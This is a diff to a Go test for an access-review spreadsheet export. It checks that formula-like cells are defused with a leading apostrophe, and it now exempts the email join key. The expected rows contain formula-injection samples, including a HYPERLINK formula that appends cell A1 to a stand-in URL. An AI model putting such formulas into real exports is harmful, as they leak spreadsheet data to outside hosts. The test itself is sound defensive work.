@@ -131,7 +131,8 @@ func TestAccessReviewEscapesControls(t *testing.T) {
 
 // TestAccessReviewDefusesFormulas: a cell a spreadsheet would evaluate
 // (a display name such as =HYPERLINK(...), chosen by its user) starts with
-// ' instead; other cells, and = inside a cell, are left as they are.
+// ' instead; other cells, = inside a cell, and the email (the join key,
+// which may start with + or -) are left as they are.
 func TestAccessReviewDefusesFormulas(t *testing.T) {
 	st := model.State{
 		Users: []model.User{
@@ -143,7 +144,7 @@ func TestAccessReviewDefusesFormulas(t *testing.T) {
 	rows := reviewRows(t, st)
 	want := [][]string{
 		AccessReviewHeader,
-		{"'-b@example.com", "b", "Bob = Builder", "true", "", "'-ops:=cmd", "", ""},
+		{"-b@example.com", "b", "Bob = Builder", "true", "", "'-ops:=cmd", "", ""},
 		{"a@example.com", "'+1handle", `'=HYPERLINK("http://x/?"&A1,"open")`, "true", "'@role", "'-ops", "", ""},
 	}
 	if d := cmp.Diff(want, rows); d != "" {
